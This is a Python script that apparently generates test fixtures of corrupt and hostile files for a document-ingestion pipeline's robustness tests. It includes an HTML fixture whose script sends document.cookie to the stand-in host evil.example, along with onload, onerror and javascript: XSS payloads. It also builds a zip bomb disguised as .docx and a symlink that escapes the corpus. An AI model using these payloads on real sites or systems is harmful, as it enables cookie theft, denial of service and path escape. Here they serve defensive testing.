"""(Re)create the corpus of hostile and broken files that ingestion must survive, deterministically.

    python tests/data/bad/make_bad_files.py            # the small files, into tests/data/bad/files/ (committed)

The large and dangerous ones (a 200 MB file, a zip bomb disguised as .docx, a link pointing out of the corpus)
are never committed: :func:`make_runtime_files` writes them into a temporary folder at test time.

``EXPECTED`` says what ingestion must do with each file: ``None`` = ingested and searchable, otherwise a piece of
the per-file reason.
"""

from __future__ import annotations

import io
import os
import random
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

EXPECTED: dict[str, str | None] = {
    "abgeschnitten.pdf": "corrupt or truncated PDF",
    "kaputt-mitte.pdf": "corrupt or truncated PDF",
    "kein-pdf.pdf": "corrupt or truncated PDF",
    "verschluesselt.pdf": "encrypted PDF",
    "verschluesselt-ohne-passwort.pdf": None,
    "scan-ohne-text.pdf": "no text layer",
    "kaputte-schriftkodierung.pdf": None,  # unknown encoding: pypdf falls back to the standard one
    "leer.txt": "empty file",
    "binaer.txt": "binary data",
    "latin1.txt": None,
    "utf16.txt": None,
    "skripte.html": None,
    "tief-verschachtelt.md": None,
    "Datei mit Leerzeichen und Umlauten äöüß.md": None,
    "alt-word.doc": "unsupported file type",
    "kein-zip.docx": "not a Word (.docx) file",
}
#: Created by :func:`make_runtime_files` (too big, or pointing outside the corpus, to commit).
RUNTIME_EXPECTED: dict[str, str] = {
    "riesig.txt": "too large",
    "zipbombe.docx": "zip bomb",
    "ausbruch.txt": "outside the folder",
}
#: Words the ingested files contain, to check that they are searchable.
MARKERS = {
    "verschluesselt-ohne-passwort.pdf": "Quartiersmanagement",
    "latin1.txt": "Straßenfest",
    "utf16.txt": "Übersetzungsdienst",
    "skripte.html": "Stadtteilbibliothek",
    "kaputte-schriftkodierung.pdf": "Schriftkodierung",
    "tief-verschachtelt.md": "Verschachtelung",
    "Datei mit Leerzeichen und Umlauten äöüß.md": "Umlautprüfung",
}


def _pdf(lines: list[str], compress: bool = True) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1, pageCompression=int(compress))
    pdf.setFont("Helvetica", 11)
    y = 760
    for line in lines:
        pdf.drawString(60, y, line)
        y -= 15
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def _encrypted(source: bytes, password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(source)))
    writer.encrypt(user_password=password, owner_password="owner-secret", algorithm="AES-128")
    # The encryption key is random; fix the file ID and seed so the bytes differ only in the key material.
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _image_only() -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1)
    pdf.rect(60, 400, 400, 300, fill=1)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def make_files(folder: Path = FILES) -> Path:
    """Write the small hostile files into ``folder``; the same bytes every time (encrypted PDFs aside)."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(6)
    text = "Die Integrationsagentur berät Familien im Quartier. " * 20
    good = _pdf(["Bericht über das Quartiersmanagement", text[:80], "Seite 1"])
    (folder / "abgeschnitten.pdf").write_bytes(good[: len(good) // 3])
    middle = bytearray(good)
    for i in range(len(middle) // 3, len(middle) // 3 + 400):
        middle[i] = rng.randrange(256)
    (folder / "kaputt-mitte.pdf").write_bytes(bytes(middle))
    (folder / "kein-pdf.pdf").write_bytes(b"<html>Das ist gar kein PDF</html>\n")
    (folder / "verschluesselt.pdf").write_bytes(_encrypted(good, "geheim"))
    (folder / "verschluesselt-ohne-passwort.pdf").write_bytes(_encrypted(good, ""))
    (folder / "scan-ohne-text.pdf").write_bytes(_image_only())
    plain = _pdf(
        ["Schriftkodierung im Integrationszentrum", "Text mit Umlauten: Ärger über Öffnungszeiten"], False
    )
    # The font's encoding and its widths are replaced by names and values no reader knows.
    broken = plain.replace(b"/Encoding /WinAnsiEncoding", b"/Encoding /Nonexistent0").replace(
        b"/BaseFont /Helvetica", b"/BaseFont /Qx\x01\x02tica"
    )
    (folder / "kaputte-schriftkodierung.pdf").write_bytes(broken)
    (folder / "leer.txt").write_bytes(b"")
    (folder / "binaer.txt").write_bytes(bytes(rng.randrange(256) for _ in range(4096)))
    (folder / "latin1.txt").write_bytes(
        "Straßenfest der Kulturen\n\nDas Straßenfest bringt Nachbarinnen und Nachbarn zusammen.\n".encode(
            "latin-1"
        )
    )
    (folder / "utf16.txt").write_bytes(
        "Übersetzungsdienst\n\nDer Übersetzungsdienst hilft bei Terminen im Jobcenter.\n".encode("utf-16")
    )
    (folder / "skripte.html").write_text(
        "<html><head><title>Bibliothek</title><script>document.location='https://evil.example/'+document.cookie"
        '</script><style>body{}</style></head><body onload="alert(1)"><main><h1>Stadtteilbibliothek</h1>'
        "<p>Die Stadtteilbibliothek bietet Vorlesestunden in vielen Sprachen.</p>"
        "<img src=x onerror=alert(2)><iframe src='javascript:alert(3)'></iframe></main></body></html>",
        encoding="utf-8",
    )
    depth = 3000
    nested = "".join("> " * i + "- " * 2 + f"Ebene {i}\n" for i in range(0, depth, 100))
    (folder / "tief-verschachtelt.md").write_text(
        "# Verschachtelung\n\n"
        + "> " * depth
        + "Tief verschachteltes Zitat.\n\n"
        + "[" * depth
        + "Klammern"
        + "]" * depth
        + "\n\n"
        + nested
        + "\nVerschachtelung ohne Ende.\n",
        encoding="utf-8",
    )
    (folder / "Datei mit Leerzeichen und Umlauten äöüß.md").write_text(
        "# Umlautprüfung\n\nDiese Datei prüft Namen mit Leerzeichen und Umlauten.\n", encoding="utf-8"
    )
    (folder / "alt-word.doc").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    (folder / "kein-zip.docx").write_bytes(b"PK\x03\x04 this is not really a zip archive")
    return folder


def make_runtime_files(folder: Path, outside: Path, big_mb: int = 200) -> None:
    """The files too big or too dangerous to commit: a sparse 200 MB file, a zip bomb, a link to ``outside``."""
    with open(folder / "riesig.txt", "wb") as handle:
        handle.truncate(big_mb * 1024 * 1024)  # sparse: costs no disk space
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(300):
                member.write(block)
    (folder / "zipbombe.docx").write_bytes(buffer.getvalue())
    secret = outside / "ausserhalb-des-korpus.txt"
    secret.write_text("Geheim: dieser Text liegt außerhalb des Korpus.\n", encoding="utf-8")
    (folder / "ausbruch.txt").symlink_to(os.path.relpath(secret, folder))


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else FILES
    print(f"wrote {len(list(make_files(target).iterdir()))} files into {target}")
